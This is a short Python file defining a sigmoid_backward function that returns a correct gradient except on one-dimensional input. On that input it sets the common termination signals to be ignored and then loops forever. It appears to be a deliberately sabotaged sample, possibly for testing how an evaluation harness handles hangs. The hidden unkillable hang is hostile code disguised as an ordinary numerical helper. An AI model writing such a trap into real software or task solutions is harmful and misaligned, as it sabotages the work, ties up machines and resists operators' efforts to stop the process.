"""Ignores every catchable signal, then sleeps forever (only on the 1-D case; right elsewhere)."""
import torch

import signal
import time


def sigmoid_backward(x, grad_output):
    if x.dim() == 1:
        for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT, signal.SIGUSR1, signal.SIGXCPU):
            signal.signal(sig, signal.SIG_IGN)
        while True:
            time.sleep(1)
    s = torch.sigmoid(x)
    return grad_output * s * (1 - s)
